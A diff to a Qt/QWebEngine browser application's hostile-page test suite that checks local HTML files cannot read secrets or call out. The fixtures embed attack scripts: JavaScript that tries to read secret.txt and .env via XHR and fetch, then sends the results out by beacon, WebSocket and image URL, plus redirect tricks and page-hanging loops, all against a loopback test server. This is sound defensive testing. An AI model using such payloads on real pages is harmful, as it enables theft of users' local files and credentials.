@@ -11,9 +11,12 @@
 #include <QLabel>
 #include <QLineEdit>
 #include <QMessageBox>
+#include <QPushButton>
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QTimer>
+#include <QWebEnginePage>
+#include <QWebEngineScript>
 #include <QWebEngineView>
 #include <QtTest>
 #include <csignal>
@@ -188,17 +191,213 @@ class HostileXvfbTest : public QObject, WindowAccess {
         form_.reset();
     }
 
-    void aLocalPageCannotReadOrSendALocalFile() {
-        const QString page = dir_.filePath(u("steal.html"));
-        QVERIFY(WriteTestFile(page, utf8Page(u("<p>Страница с сюрпризом.</p>") +
-                                             stealScript(QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString(),
-                                                         u("secret.txt"), server_.url(u("/leak"))))));
+    // A page saved "complete" in site/ with its page_files/ folder, and secrets beside it and above it.
+    QString writeLocalSite(const QString& body, const QString& head = {}) {
+        const QString site = dir_.filePath(u("site"));
+        if (!QDir().mkpath(site + u("/page_files"))) return {};
+        WriteTestFile(dir_.filePath(u(".env")), "TOKEN = \"" + kSecret + "\";\n");
+        WriteTestFile(dir_.filePath(u("outside.html")), utf8Page(u("<p>Запретный %1 текст.</p>").arg(kSecret)));
+        WriteTestFile(site + u("/secret.txt"), kSecret + "\n");
+        WriteTestFile(site + u("/secret-page.html"), utf8Page(u("<p>Тайная страница.</p>")));
+        WriteTestFile(site + u("/page_files/style.css"), "#own { border: 3px solid rgb(1, 2, 3); }\n");
+        WriteTestFile(site + u("/page_files/pic.png"),
+                      QByteArray::fromBase64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQG"
+                                             "AhKmMIQAAAABJRU5ErkJggg=="));
+        const QString page = site + u("/page.html");
+        WriteTestFile(page, utf8Page(body, head));
+        return page;
+    }
+
+    // Runs a script in the program's own isolated world of the page on screen and returns its value.
+    QVariant evaluate(const QString& script) {
+        auto* view = qobject_cast<QWebEngineView*>(browser_->view());
+        QVariant value;
+        bool done = false;
+        view->page()->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant& v) {
+            value = v;
+            done = true;
+        });
+        if (!QTest::qWaitFor([&] { return done; }, kWaitMs)) return {};
+        return value;
+    }
+
+    void aLocalPageIsADocumentThatSendsNothing() {
+        const QString sink = server_.url(QString());
+        const QString page = writeLocalSite(
+            u("<p>Документ с диска.</p><img id=\"own\" src=\"page_files/pic.png\"><img src=\"%1/img.png\">"
+              "<iframe src=\"%1/frame.html\"></iframe><iframe src=\"../outside.html\"></iframe>"
+              "<video poster=\"%1/poster.png\"></video><object data=\"%1/object\"></object>"
+              "<form action=\"%1/form\" method=\"post\"><input name=\"a\" value=\"b\"></form>"
+              "<script>new Image().src = \"%1/ran-inline\"; document.forms[0].submit();</script>")
+                .arg(sink),
+            u("<script src=\"../.env\"></script><link rel=\"stylesheet\" href=\"page_files/style.css\">"
+              "<link rel=\"stylesheet\" href=\"%1/remote.css\"><link rel=\"preconnect\" href=\"%1/\">"
+              "<link rel=\"prefetch\" href=\"%1/prefetch\"><link rel=\"icon\" href=\"%1/icon.png\">"
+              "<style>@font-face { font-family: f; src: url(%1/font.woff); } body { font-family: f; "
+              "background: url(%1/bg.png); }</style><meta http-equiv=\"refresh\" content=\"1;url=%1/refresh\">")
+                .arg(sink));
+        const int connections = server_.connections();
         open(page);
-        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak") >= 2, kWaitMs);
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Документ")) && !form_->analysisRunning(), kWaitMs);
+        // The meta refresh is the page's last try; by the time it is refused everything else has been.
+        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Переход отклонён: %1/refresh").arg(sink)), kWaitMs);
+        QTest::qWait(500);
+        QVERIFY2(server_.connections() == connections, server_.all().join("\n----\n").constData());
+        // It shows as saved: its own image and style sheet from its folder.
+        QCOMPARE(evaluate(u("document.getElementById('own').naturalWidth")).toInt(), 1);
+        QCOMPARE(evaluate(u("getComputedStyle(document.getElementById('own')).borderTopColor")).toString(),
+                 u("rgb(1, 2, 3)"));
+        QVERIFY(child<QWidget>("pnLocalPage")->isVisible());
+        QVERIFY(child<QPushButton>("btAllowContent")->isVisible());
+        QCOMPARE(child<QComboBox>("cbURLNavigator")->currentText(), QUrl::fromLocalFile(page).toString());
+    }
+
+    void anAllowedLocalPageStaysInItsFolder() {
+        const QString report = server_.url(u("/report"));
+        const QString socket = QString(report).replace(0, 4, u("ws"));
+        const QString page =
+            writeLocalSite(u(R"(<p>Страница со скриптами.</p><script>
+var got = [];
+function note(what) { got.push(String(what).slice(0, 200)); }
+window.onerror = function (m) { note("onerror " + m); };
+["secret.txt", "../secret.txt", "../.env", "%2"].forEach(function (t) {
+  try { var x = new XMLHttpRequest(); x.open("GET", t, false); x.send(); note("xhr " + x.responseText); }
+  catch (e) { note("xhr refused"); }
+  fetch(t).then(function (r) { return r.text(); }).then(function (s) { note("fetch " + s); },
+                                                         function () { note("fetch refused"); });
+});
+["../.env", "../missing.js", "page_files/none.js"].forEach(function (t, k) {
+  var s = document.createElement("script");
+  s.onload = function () { note("probe" + k + " load"); };
+  s.onerror = function () { note("probe" + k + " error"); };
+  s.src = t;
+  document.head.appendChild(s);
+});
+var frame = document.createElement("iframe");
+frame.src = "../outside.html";
+document.body.appendChild(frame);
+setTimeout(function () {
+  try { note("frame " + frame.contentDocument.body.innerText); } catch (e) { note("frame refused"); }
+  note("token " + typeof TOKEN);
+  var data = encodeURIComponent(got.join("|"));
+  navigator.sendBeacon("%1?beacon=" + data, got.join("|"));
+  try { new WebSocket("%3?d=" + data); } catch (e) {}
+  new Image().src = "%1?image=" + data;
+}, 1500);
+</script>)")
+                               .arg(report, QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString(), socket));
+        open(page);
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("скриптами")) && !form_->analysisRunning(), kWaitMs);
+        QTest::qWait(2000);
+        QCOMPARE(server_.requests("/report"), 0);
+        child<QPushButton>("btAllowContent")->click();
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/report") >= 3, kWaitMs);
         QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
-        // The page did run and did report what it could not do.
-        QVERIFY(server_.sawText("xhr refused"));
-        QVERIFY(server_.sawText("frame refused"));
+        // The scripts ran, read nothing, and could not even tell a file outside from a missing one.
+        for (const char* seen : {"xhr refused", "token undefined", "probe0 error", "probe1 error", "probe2 error"})
+            QVERIFY2(server_.sawText(seen), seen);
+        QVERIFY(!child<QPushButton>("btAllowContent")->isVisible());
+    }
+
+    void aLocalFramesetReadsNoFrameOutsideItsFolder() {
+        const QString page = writeLocalSite({});
+        const QString frameset = dir_.filePath(u("site/frameset.html"));
+        QVERIFY(WriteTestFile(frameset,
+                              "<html><frameset cols=\"50%,50%\"><frame src=\"secret-page.html\">"
+                              "<frame src=\"../outside.html\"></frameset></html>"));
+        open(frameset);
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Тайная")) && !form_->analysisRunning(), kWaitMs);
+        QVERIFY(!hasWord(u("Запретный")));
+        QVERIFY(!page.isEmpty());
+    }
+
+    void redirectsNeverOpenALocalFile() {
+        const QString secretPage = dir_.filePath(u("site/secret-page.html"));
+        const QString localPage = writeLocalSite(u("<p>Руководство на диске.</p>"));
+        server_.serve(
+            "/to-file",
+            LoopbackServer::Reply{
+                "text/html", {}, "Location: " + QUrl::fromLocalFile(secretPage).toEncoded() + "\r\n", "302 Found"});
+        server_.serve("/to-scheme",
+                      LoopbackServer::Reply{
+                          "text/html", {}, "Location: sumoran-local:" + secretPage.toUtf8() + "\r\n", "302 Found"});
+        for (const char* path : {"/to-file", "/to-scheme"}) {
+            open(localPage);  // a local page on screen, as the user guide would be
+            QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Руководство")) && !form_->analysisRunning(), kWaitMs);
+            refused_->clear();
+            open(server_.url(QString::fromLatin1(path)));
+            // The engine itself refuses a redirect to a file: address; one into the local scheme is refused here.
+            QTRY_VERIFY_WITH_TIMEOUT(noted(u("Переход отклонён")) || status().contains(u("переадресация")), kWaitMs);
+            QTest::qWait(500);
+            QVERIFY(!hasWord(u("Тайная")));
+            QVERIFY(!child<QComboBox>("cbURLNavigator")->currentText().contains(u("secret-page")));
+        }
+        // A local page's meta refresh, and its script once allowed, go nowhere local either.
+        const QString refreshing = dir_.filePath(u("site/refresh.html"));
+        QVERIFY(
+            WriteTestFile(refreshing, utf8Page(u("<p>Обновляемая страница.</p>"),
+                                               u("<meta http-equiv=\"refresh\" content=\"0;url=secret-page.html\">"))));
+        refused_->clear();
+        open(refreshing);
+        QTRY_VERIFY_WITH_TIMEOUT(noted(u("secret-page.html")), kWaitMs);
+        const QString scripted = dir_.filePath(u("site/script.html"));
+        QVERIFY(WriteTestFile(scripted, utf8Page(u("<p>Прыгающая страница.</p><script>setTimeout(function () { "
+                                                   "location.href = 'secret-page.html'; }, 300);</script>"))));
+        open(scripted);
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Прыгающая")) && !form_->analysisRunning(), kWaitMs);
+        refused_->clear();
+        child<QPushButton>("btAllowContent")->click();
+        QTRY_VERIFY_WITH_TIMEOUT(noted(u("secret-page.html")), kWaitMs);
+        QVERIFY(!hasWord(u("Тайная")));
+    }
+
+    void theAddressBoxShowsOnlyTheTopDocument() {
+        serve("/bank-login", u("<p>Вход в банк.</p>"));
+        serveAndOpen("/hidden-frame.html", u("<p>Невинная страница.</p><iframe src=\"/bank-login\" "
+                                             "style=\"display:none\"></iframe><script>setTimeout(function () { "
+                                             "location.href = 'foo:refused'; }, 500);</script>"));
+        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/bank-login") >= 1 && noted(u("foo:refused")), kWaitMs);
+        auto* box = child<QComboBox>("cbURLNavigator");
+        QCOMPARE(box->currentText(), server_.url(u("/hidden-frame.html")));
+        for (int k = 0; k < box->count(); ++k) QVERIFY(!box->itemText(k).contains(u("bank-login")));
+    }
+
+    void leavingAPageThatHangsShowsTheNext_data() {
+        QTest::addColumn<QString>("body");
+        QTest::newRow("script that never ends")
+            << u("<p>Вечный цикл.</p><script>setTimeout(function () { while (true) {} });</script>");
+        QTest::newRow("dialog loop") << u("<p>Окна без конца.</p><script>for (;;) alert('Ловушка');</script>");
+        QTest::newRow("100,000 nested elements")
+            << u("<p>Глубокая страница.</p>") + u("<div>").repeated(100000) + u("дно") + u("</div>").repeated(100000);
+    }
+
+    void leavingAPageThatHangsShowsTheNext() {
+        QFETCH(QString, body);
+        server_.serve("/hangs.html",
+                      LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(body), "Cache-Control: no-store\r\n"});
+        auto* box = child<QComboBox>("cbURLNavigator");
+        for (int round = 1; round <= 10; ++round) {
+            // Typed into the address box and sent with "Переход", as a user leaves a page.
+            box->setEditText(server_.url(u("/hangs.html?%1").arg(round)));
+            action("tbGo")->trigger();
+            QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/hangs.html") >= round, kWaitMs);
+            QTest::qWait(300);
+            goodPageIsAnalysed();
+        }
+    }
+
+    void anXhtmlNamespacePageShowsAsHtml() {
+        const QString page = dir_.filePath(u("xhtml-era.html"));
+        // Not well-formed XML: an XML parser would show an error instead of the page.
+        QVERIFY(WriteTestFile(page, u("<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><meta charset=\"utf-8\">"
+                                      "<title>Старый сайт</title></head><body><p>Страница&nbsp;эпохи XHTML<br></p>"
+                                      "</body></html>")
+                                        .toUtf8()));
+        open(page);
+        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("эпохи")) && !form_->analysisRunning(), kWaitMs);
+        // The window analyses a local file from its bytes at once; the browser shows it a little later.
+        QTRY_VERIFY_WITH_TIMEOUT(evaluate(u("document.body.innerText")).toString().contains(u("эпохи")), kWaitMs);
+        QCOMPARE(evaluate(u("document.contentType")).toString(), u("text/html"));
     }
 
     void aRemotePageCannotReachLocalFiles() {
